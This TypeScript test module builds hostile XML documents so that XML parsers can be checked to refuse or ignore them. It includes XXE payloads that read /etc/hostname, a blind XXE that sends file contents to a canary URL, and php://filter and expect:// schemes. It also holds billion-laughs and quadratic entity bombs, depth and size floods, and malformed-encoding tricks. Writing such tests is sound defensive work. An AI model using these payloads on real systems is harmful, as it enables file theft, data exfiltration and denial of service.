// Attacks that any XML document can carry, whatever its vocabulary; each door that reads XML must stand them.

export interface Document {
  /** Text without an XML declaration. */
  readonly text: string;
  /** Where a child element may be put: before this end tag. */
  readonly before: string;
}

export interface DocumentAttack {
  /** Begins with the row that it shows. */
  readonly name: string;
  readonly build: (document: Document, canary: string) => Buffer;
  /** `harmless`: every reader must read the document as if it were not there. */
  readonly verdict: 'refused' | 'harmless';
  /** Words of the answer to the partner. */
  readonly because?: string;
}

const utf8 = (text: string): Buffer => Buffer.from(text, 'utf8');

/** Text before the root element, by the canary's URL. */
const prolog =
  (before: string | ((canary: string) => string)): DocumentAttack['build'] =>
  ({ text }, canary) =>
    utf8((typeof before === 'string' ? before : before(canary)) + text);

/** A DOCTYPE, and in the document a reference that would bring in what it declares. */
const doctype =
  (declaration: (canary: string) => string, use = ''): DocumentAttack['build'] =>
  (document, canary) =>
    Buffer.concat([utf8(declaration(canary)), inside(() => use)(document, canary)]);

/** A child element of nobody's vocabulary. */
const inside =
  (child: (canary: string) => string): DocumentAttack['build'] =>
  ({ text, before }, canary) => {
    const at = text.lastIndexOf(before);
    if (at < 0) throw new Error(`nothing to put it before: ${before}`);
    return utf8(text.slice(0, at) + child(canary) + text.slice(at));
  };

/** More on the start tag of the root element. */
const onRoot =
  (attributes: (canary: string) => string): DocumentAttack['build'] =>
  ({ text }, canary) =>
    utf8(text.replace(/^<[^\s>]+/, (start) => `${start} ${attributes(canary)}`));

/** The whole text in other octets. */
const octets =
  (encode: (text: string) => Buffer): DocumentAttack['build'] =>
  ({ text }) =>
    encode(text);

const refusedFor =
  (because: string) =>
  (name: string, build: DocumentAttack['build']): DocumentAttack => ({ name, build, verdict: 'refused', because });
const harmless = (name: string, build: DocumentAttack['build']): DocumentAttack => ({
  name,
  build,
  verdict: 'harmless',
});

const FILE = 'file:///etc/hostname';
const NO_DOCTYPE = 'a document type declaration is not allowed';
const declared = refusedFor(NO_DOCTYPE);
const markup = refusedFor('a markup declaration where none is allowed');
const notWellFormed = refusedFor('not well-formed XML');

const utf16 = (text: string, order: 'LE' | 'BE'): Buffer => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return order === 'LE' ? bytes : bytes.swap16();
};

const external = (url: (canary: string) => string): DocumentAttack['build'] =>
  doctype((canary) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${url(canary)}">]>`, '&e;');

const DOCTYPES: readonly DocumentAttack[] = [
  declared('row 117 a DOCTYPE that declares nothing', prolog('<!DOCTYPE x>')),
  declared(
    'row 117 an internal subset with an entity that is used',
    doctype(() => '<!DOCTYPE x [<!ENTITY e "e">]>', '&e;'),
  ),
  declared(
    'row 117 XXE file',
    external(() => FILE),
  ),
  declared(
    'row 117 XXE file without scheme',
    external(() => '/etc/hostname'),
  ),
  declared(
    'row 117 XXE http',
    external((canary) => `${canary}/x`),
  ),
  declared(
    'row 117 XXE ftp',
    external((canary) => `${canary.replace('http:', 'ftp:')}/x`),
  ),
  declared(
    'row 117 XXE jar',
    external((canary) => `jar:${canary}/x.jar!/x`),
  ),
  declared(
    'row 117 XXE netdoc',
    external(() => `netdoc:${FILE.slice(5)}`),
  ),
  declared(
    'row 117 XXE php filter',
    external(() => 'php://filter/convert.base64-encode/resource=/etc/hostname'),
  ),
  declared(
    'row 117 XXE expect',
    external(() => 'expect://id'),
  ),
  declared(
    'row 117 XXE data',
    external(() => 'data:text/plain,x'),
  ),
  declared(
    'row 117 XXE with PUBLIC',
    doctype((canary) => `<!DOCTYPE x [<!ENTITY e PUBLIC "-//x" "${canary}/x">]>`, '&e;'),
  ),
  declared(
    'row 117 an external subset, http',
    prolog((canary) => `<!DOCTYPE x SYSTEM "${canary}/x.dtd">`),
  ),
  declared(
    'row 117 an external subset, PUBLIC',
    prolog((canary) => `<!DOCTYPE x PUBLIC "-//x" "${canary}/x.dtd">`),
  ),
  declared('row 117 an external subset, file', prolog(`<!DOCTYPE x SYSTEM "${FILE}">`)),
  declared(
    'row 117 a parameter entity from outside',
    prolog((canary) => `<!DOCTYPE x [<!ENTITY % p SYSTEM "${canary}/p.dtd"> %p;]>`),
  ),
  declared(
    'row 117 blind XXE: a file in the URL of a second request',
    prolog(
      (canary) =>
        `<!DOCTYPE x [<!ENTITY % f SYSTEM "${FILE}"><!ENTITY % d "<!ENTITY &#37; s SYSTEM '${canary}/?%f;'>">%d;%s;]>`,
    ),
  ),
  declared(
    'row 117 an unparsed entity',
    prolog((canary) => `<!DOCTYPE x [<!NOTATION n SYSTEM "${canary}/n"><!ENTITY e SYSTEM "${canary}/e" NDATA n>]>`),
  ),
  declared('row 117 an ATTLIST that gives every root a default', prolog('<!DOCTYPE x [<!ATTLIST x a CDATA "b">]>')),
  declared('row 117 an ATTLIST that declares an ID', prolog('<!DOCTYPE x [<!ATTLIST x Id ID #IMPLIED>]>')),
  declared('row 117 behind white space', prolog('\n\t \r\n<!DOCTYPE x>')),
  declared('row 117 behind a comment', prolog('<!-- <!-x -><!DOCTYPE y> --><!DOCTYPE x>')),
  declared('row 117 behind a processing instruction', prolog('<?x <!-- ?><!DOCTYPE x><?y -->?>')),
  declared('row 117 behind a declaration and a comment', prolog('<?xml version="1.0"?><!----><!DOCTYPE x>')),
  declared('row 117 behind the root element', ({ text }) => utf8(`${text}<!DOCTYPE x>`)),
  declared(
    'row 117 inside the root element',
    inside(() => '<!DOCTYPE x>'),
  ),
  declared('row 117 that does not end', prolog('<!DOCTYPE x [<!ENTITY e "')),
  declared('row 117 with a line end for a blank', prolog('<!DOCTYPE\nx>')),
  declared(
    'row 117 in UTF-16LE',
    octets((text) => utf16(`<!DOCTYPE x>${text}`, 'LE')),
  ),
  declared(
    'row 117 in UTF-16BE',
    octets((text) => utf16(`<!DOCTYPE x>${text}`, 'BE')),
  ),
  declared('row 117 behind a UTF-8 byte order mark', prolog('\ufeff<!DOCTYPE x>')),
  declared(
    'row 117 in declared ISO-8859-1',
    octets((text) => Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><!DOCTYPE x>${text}`, 'latin1')),
  ),
  markup('row 117 doctype in lower case', prolog('<!doctype x>')),
  markup('row 117 DocType in mixed case', prolog('<!DocType x [<!ENTITY e "e">]>')),
  markup(
    'row 117 an ENTITY without DOCTYPE',
    prolog((canary) => `<!ENTITY e SYSTEM "${canary}/x">`),
  ),
  markup(
    'row 117 an ELEMENT inside the root element',
    inside(() => '<!ELEMENT x ANY>'),
  ),
  markup('row 117 a conditional section', prolog('<![INCLUDE[<!DOCTYPE x>]]>')),
  harmless('row 117 the word in a comment before the root is text', prolog('<!-- <!DOCTYPE x [ -->')),
  harmless('row 117 the word in a processing instruction is text', prolog('<?x <!DOCTYPE x> ?>')),
];

const LAUGHS = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const BOMBS: readonly DocumentAttack[] = [
  declared(
    'row 118 billion laughs',
    doctype(() => `<!DOCTYPE x [<!ENTITY l0 "lol">${LAUGHS}]>`, '&l9;'),
  ),
  declared(
    'row 118 quadratic blow-up',
    doctype(() => `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(50_000)}">]>`, '&a;'.repeat(50_000)),
  ),
  declared(
    'row 118 an entity that holds itself',
    doctype(() => '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', '&a;'),
  ),
  declared(
    'row 118 parameter entities that laugh',
    prolog(`<!DOCTYPE x [<!ENTITY % a "${'x'.repeat(1000)}">${'<!ENTITY % b "%a;%a;">'.repeat(1000)}%b;]>`),
  ),
  declared('row 118 an internal subset of 500 kB', prolog(`<!DOCTYPE x [${'<!ENTITY e "e">'.repeat(33_000)}]>`)),
  notWellFormed(
    'row 118 100 000 references to an entity that is not declared',
    inside(() => '&a;'.repeat(100_000)),
  ),
  notWellFormed(
    'row 118 numeric references beyond Unicode',
    inside(() => '&#x7FFFFFFF;'.repeat(50_000)),
  ),
  notWellFormed(
    'row 118 a numeric reference of 500 kB',
    inside(() => `&#${'9'.repeat(500_000)};`),
  ),
  notWellFormed(
    'row 118 numeric references to NUL',
    inside(() => '&#0;'.repeat(100_000)),
  ),
];

const SIZES: readonly DocumentAttack[] = [
  refusedFor('deeper than')(
    'row 119 a depth of 100 000',
    inside(() => '<a>'.repeat(100_000) + '</a>'.repeat(100_000)),
  ),
  refusedFor('deeper than')(
    'row 119 a depth of 100 000 that does not come back',
    inside(() => '<a>'.repeat(100_000)),
  ),
  refusedFor('attributes')(
    'row 119 100 000 attributes of one element',
    inside(() => `<a${Array.from({ length: 100_000 }, (_, i) => ` a${i}=""`).join('')}/>`),
  ),
  refusedFor('namespace declarations in scope')(
    'row 119 300 namespace declarations on 300 levels',
    inside(() => {
      const open = Array.from({ length: 150 }, (_, i) => `<a xmlns:a${i}="u:${i}" xmlns:b${i}="u:${i}">`);
      return open.join('') + '</a>'.repeat(150);
    }),
  ),
  refusedFor('attributes')(
    'row 119 30 000 namespace declarations of one element',
    inside(() => `<a${Array.from({ length: 30_000 }, (_, i) => ` xmlns:a${i}="u:${i}"`).join('')}/>`),
  ),
  notWellFormed(
    'row 119 50 000 elements that are not closed in order',
    inside(() => '<a></b>'.repeat(50_000)),
  ),
  refusedFor('a start tag does not end')('row 119 a start tag of 500 kB that does not end', ({ text, before }) =>
    utf8(`${text.slice(0, text.lastIndexOf(before))}<a b="${'x'.repeat(500_000)}`),
  ),
  refusedFor('markup does not end')(
    'row 119 a comment that does not end',
    inside(() => `<!--${'- '.repeat(200_000)}`),
  ),
  harmless('row 119 100 000 comments before the root', prolog('<!---->'.repeat(100_000))),
  harmless('row 119 50 000 processing instructions before the root', prolog('<?a b?>'.repeat(50_000))),
  harmless('row 119 500 kB of white space before the root', prolog('\n'.repeat(500_000))),
];

const OUTSIDE: readonly DocumentAttack[] = [
  harmless(
    'row 120 xsi:schemaLocation',
    onRoot(
      (canary) => `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x ${canary}/x.xsd"`,
    ),
  ),
  harmless(
    'row 120 xsi:noNamespaceSchemaLocation',
    onRoot(
      (canary) =>
        `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="${canary}/x.xsd"`,
    ),
  ),
  harmless(
    'row 120 an xml-stylesheet',
    prolog((canary) => `<?xml-stylesheet type="text/xsl" href="${canary}/x.xsl"?>`),
  ),
  harmless(
    'row 120 an xml-model',
    prolog((canary) => `<?xml-model href="${canary}/x.rng"?>`),
  ),
];

const ENCODINGS: readonly DocumentAttack[] = [
  harmless(
    'row 113 UTF-16LE with its byte order mark',
    octets((text) => utf16(text, 'LE')),
  ),
  harmless(
    'row 113 UTF-16BE with its byte order mark',
    octets((text) => utf16(text, 'BE')),
  ),
  harmless('row 113 a UTF-8 byte order mark', prolog('\ufeff')),
  harmless(
    'row 113 a declaration of ISO-8859-1 in quotes of the other kind',
    prolog("<?xml version='1.0' encoding='iso-8859-1'?>"),
  ),
  refusedFor('without a byte order mark')(
    'row 113 UTF-16LE without a byte order mark',
    octets((text) => Buffer.from(text, 'utf16le')),
  ),
  refusedFor('without a byte order mark')(
    'row 113 UTF-32BE',
    octets((text) => Buffer.concat([...text.slice(0, 200)].map((c) => Buffer.from([0, 0, 0, c.charCodeAt(0)])))),
  ),
  refusedFor('byte order mark says UTF-16')(
    'row 113 UTF-16 that declares UTF-8',
    octets((text) => utf16(`<?xml version="1.0" encoding="UTF-8"?>${text}`, 'LE')),
  ),
  refusedFor('byte order mark says UTF-8')(
    'row 113 a UTF-8 byte order mark and a declaration of ISO-8859-1',
    prolog('\ufeff<?xml version="1.0" encoding="ISO-8859-1"?>'),
  ),
  refusedFor('without a byte order mark')(
    'row 113 UTF-8 that declares UTF-16',
    prolog('<?xml version="1.0" encoding="UTF-16"?>'),
  ),
  refusedFor('unsupported encoding')(
    'row 113 a declaration of UTF-7',
    prolog('<?xml version="1.0" encoding="UTF-7"?>'),
  ),
  refusedFor('unsupported encoding')(
    'row 113 a declaration of EBCDIC',
    prolog('<?xml version="1.0" encoding="IBM037"?>'),
  ),
  refusedFor('unsupported encoding')(
    'row 113 a declaration of __proto__',
    prolog('<?xml version="1.0" encoding="x__proto__"?>'),
  ),
  refusedFor('declaration is not well-formed')(
    'row 113 two encodings in one declaration',
    prolog('<?xml version="1.0" encoding="UTF-8" encoding="UTF-7"?>'),
  ),
  refusedFor('declaration is not well-formed')(
    'row 113 a declaration of 500 kB',
    prolog(`<?xml version="1.0"${' '.repeat(500_000)}?>`),
  ),
  notWellFormed('row 113 a declaration behind a blank', prolog(' <?xml version="1.0"?>')),
  notWellFormed(
    'row 113 UTF-7 without saying so',
    octets((text) => utf8(text.replaceAll('<', '+ADw-'))),
  ),
  refusedFor('ill-formed UTF-8')(
    'row 113 overlong UTF-8 for <',
    octets((text) => Buffer.from(text.replace('<', '\xc0\xbc'), 'latin1')),
  ),
  refusedFor('ill-formed UTF-8')(
    'row 113 an overlong DOCTYPE',
    octets((text) => Buffer.from(`\xc0\xbc!DOCTYPE x>${text}`, 'latin1')),
  ),
  refusedFor('ill-formed UTF-8')(
    'row 113 overlong UTF-8 of three octets for /',
    octets(withOctets([0xe0, 0x80, 0xaf])),
  ),
  refusedFor('ill-formed UTF-8')('row 113 UTF-8 of five octets', octets(withOctets([0xf8, 0x88, 0x80, 0x80, 0x80]))),
  refusedFor('ill-formed UTF-8')('row 113 a continuation octet alone', octets(withOctets([0x80]))),
  refusedFor('ill-formed UTF-8')(
    'row 113 UTF-8 that is cut',
    octets((text) => Buffer.concat([utf8(text), Buffer.from([0xe2, 0x82])])),
  ),
];

function withOctets(bytes: readonly number[]): (text: string) => Buffer {
  return (text) => Buffer.concat([utf8('<!--'), Buffer.from(bytes), utf8('-->'), utf8(text)]);
}

const CONTROLS: readonly DocumentAttack[] = [
  refusedFor('only XML 1.0 is read')('row 124 XML 1.1', prolog('<?xml version="1.1"?>')),
  refusedFor('only XML 1.0 is read')('row 124 XML 1.1 with a control character', ({ text }) =>
    utf8(`<?xml version="1.1"?><!-- \u0001 -->${text}`),
  ),
  refusedFor('only XML 1.0 is read')('row 124 XML 2.0', prolog('<?xml version="2.0"?>')),
  ...[0x01, 0x08, 0x0b, 0x0c, 0x0e, 0x1f, 0xfffe, 0xffff].map((code) =>
    notWellFormed(
      `row 124 U+${code.toString(16).toUpperCase().padStart(4, '0')} in text`,
      inside(() => String.fromCharCode(code)),
    ),
  ),
  notWellFormed(
    'row 124 U+0001 as a reference',
    inside(() => '&#1;'),
  ),
  notWellFormed(
    'row 124 U+FFFE as a reference',
    inside(() => '&#xFFFE;'),
  ),
  notWellFormed(
    'row 124 a surrogate as a reference',
    inside(() => '&#xD800;'),
  ),
  notWellFormed(
    'row 124 NUL in text',
    inside(() => '\u0000'),
  ),
  notWellFormed(
    'row 124 U+0001 in a comment',
    inside(() => '<!-- \u0001 -->'),
  ),
  refusedFor('ill-formed UTF-8')('row 124 a lone surrogate in UTF-8', octets(withOctets([0xed, 0xa0, 0x80]))),
  refusedFor('ill-formed UTF-8')(
    'row 124 a pair of surrogates in UTF-8',
    octets(withOctets([0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80])),
  ),
  refusedFor('ill-formed UTF-16')(
    'row 124 a lone surrogate in UTF-16',
    octets((text) => utf16(`<!-- \ud800 -->${text}`, 'LE')),
  ),
  refusedFor('ill-formed UTF-16')(
    'row 124 UTF-16 of an odd number of octets',
    octets((text) => utf16(text, 'LE').subarray(0, -1)),
  ),
];

const NAMESPACES: readonly DocumentAttack[] = [
  notWellFormed(
    'row 123 the same prefix twice on one element',
    inside(() => '<a xmlns:p="u:1" xmlns:p="u:2"/>'),
  ),
  notWellFormed(
    'row 123 two attributes of one expanded name',
    inside(() => '<a xmlns:p="u:1" xmlns:q="u:1" p:b="" q:b=""/>'),
  ),
  notWellFormed(
    'row 123 a prefix that is not bound',
    inside(() => '<p:a/>'),
  ),
  notWellFormed(
    'row 123 the prefix xml bound to something else',
    inside(() => '<a xmlns:xml="u:1"/>'),
  ),
  notWellFormed(
    'row 123 the prefix xmlns declared',
    inside(() => '<a xmlns:xmlns="u:1"/>'),
  ),
  notWellFormed(
    'row 123 a prefix undeclared',
    inside(() => '<a xmlns:p="u:1"><b xmlns:p=""/></a>'),
  ),
  notWellFormed(
    'row 123 a name with two colons',
    inside(() => '<a xmlns:p="u:1"><p:b:c/></a>'),
  ),
  refusedFor('a namespace name is a relative URI')(
    'row 123 a relative namespace name',
    inside(() => '<a xmlns="x/y"/>'),
  ),
  notWellFormed(
    'row 123 an attribute twice',
    inside(() => '<a b="1" b="2"/>'),
  ),
];

export const DOCUMENT_ATTACKS: readonly DocumentAttack[] = [
  ...DOCTYPES,
  ...BOMBS,
  ...SIZES,
  ...OUTSIDE,
  ...ENCODINGS,
  ...CONTROLS,
  ...NAMESPACES,
];
